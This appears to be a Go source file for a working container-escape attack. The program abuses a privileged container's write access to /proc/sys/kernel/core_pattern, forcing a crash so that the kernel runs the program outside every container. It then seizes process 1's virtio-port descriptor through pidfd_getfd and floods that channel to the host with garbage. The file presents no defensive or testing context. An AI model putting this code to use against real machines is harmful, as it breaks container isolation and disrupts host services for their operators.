package main

import (
	"bytes"
	"errors"
	"fmt"
	"math/rand/v2"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"

	"golang.org/x/sys/unix"
)

const (
	// seizer is the name under which the kernel starts this program in the machine.
	seizer      = "seize"
	corePattern = "/proc/sys/kernel/core_pattern"
	// around is where the machine's own processes are mounted for a seizer.
	around = "/seized"
)

// hostile turns a privileged container of a virtual machine into the machine's master: the
// kernel starts what core_pattern names, for a process that crashes, outside of all
// containers. What it starts is seize.
func hostile(args []string) error {
	if len(args) != 1 {
		return errors.New("want PORT, as the machine's host calls it")
	}
	upper, err := upperDir()
	if err != nil {
		return err
	}
	self, err := os.ReadFile("/proc/self/exe")
	if err != nil {
		return err
	}
	if err := os.WriteFile("/"+seizer, self, 0o755); err != nil {
		return err
	}
	for name, text := range map[string]string{"/port": args[0], "/flooded": "0"} {
		if err := os.WriteFile(name, []byte(text), 0o644); err != nil {
			return err
		}
	}
	if err := os.WriteFile(corePattern, []byte("|"+filepath.Join(upper, seizer)), 0); err != nil {
		return err
	}
	var exit *exec.ExitError
	if err := exec.Command("/bin/sh", "-c", "kill -SEGV $$").Run(); !errors.As(err, &exit) {
		return fmt.Errorf("nothing crashed: %w", err)
	}
	return pause()
}

// upperDir is where the machine has what this container writes to its root.
func upperDir() (string, error) {
	mounts, err := os.ReadFile("/proc/self/mounts")
	if err != nil {
		return "", err
	}
	for line := range strings.Lines(string(mounts)) {
		f := strings.Fields(line)
		if len(f) < 4 || f[1] != "/" {
			continue
		}
		for option := range strings.SplitSeq(f[3], ",") {
			if dir, ok := strings.CutPrefix(option, "upperdir="); ok {
				return dir, nil
			}
		}
	}
	return "", errors.New("the root has no upper directory")
}

// seize takes the port from the machine's first process and writes garbage into it for
// ever, as fast as the host takes it. How much, or why not, stands in the container's file
// /flooded.
func seize(self string) error {
	_ = os.Stdin.Close() // the core
	result, err := os.OpenFile(filepath.Join(filepath.Dir(self), "flooded"), os.O_WRONLY, 0)
	if err != nil {
		return err
	}
	defer result.Close()
	err = flood(self, func(bytes int) { _, _ = result.WriteAt(fmt.Appendln(nil, bytes), 0) })
	_, _ = result.WriteAt(fmt.Appendln(nil, err), 0)
	return err
}

// flood returns only with an error.
func flood(self string, wrote func(int)) error {
	name, err := os.ReadFile(filepath.Join(filepath.Dir(self), "port"))
	if err != nil {
		return err
	}
	if err := os.MkdirAll(around, 0o700); err != nil {
		return err
	}
	if err := unix.Mount("proc", around, "proc", 0, ""); err != nil {
		return err
	}
	fd, err := portOf(string(name))
	if err != nil {
		return err
	}
	garbage := make([]byte, 64<<10)
	seed := [32]byte{1}
	rand.NewChaCha8(seed).Read(garbage)
	for total := 0; ; {
		n, err := unix.Write(fd, garbage)
		if n > 0 {
			total += n
			wrote(total)
		}
		if n > 0 || errors.Is(err, unix.EINTR) {
			continue
		}
		if err != nil && !errors.Is(err, unix.EAGAIN) {
			return err
		}
		ready := []unix.PollFd{{Fd: int32(fd), Events: unix.POLLOUT}}
		if _, err := unix.Poll(ready, 1000); err != nil && !errors.Is(err, unix.EINTR) {
			return err
		}
	}
}

// portOf is a descriptor of the port, copied out of the machine's first process.
func portOf(name string) (int, error) {
	names, err := filepath.Glob("/sys/class/virtio-ports/*/name")
	if err != nil {
		return -1, err
	}
	device := ""
	for _, file := range names {
		text, err := os.ReadFile(file)
		if err == nil && string(bytes.TrimSpace(text)) == name {
			device = "/dev/" + filepath.Base(filepath.Dir(file))
		}
	}
	first, err := unix.PidfdOpen(1, 0)
	if err != nil {
		return -1, err
	}
	links, err := filepath.Glob(around + "/1/fd/*")
	if err != nil {
		return -1, err
	}
	for _, link := range links {
		var number int
		if to, err := os.Readlink(link); err != nil || to != device {
			continue
		}
		if _, err := fmt.Sscan(filepath.Base(link), &number); err != nil {
			return -1, err
		}
		return unix.PidfdGetfd(first, number, 0)
	}
	return -1, fmt.Errorf("process 1 has no port %q: %w", name, syscall.ENOENT)
}
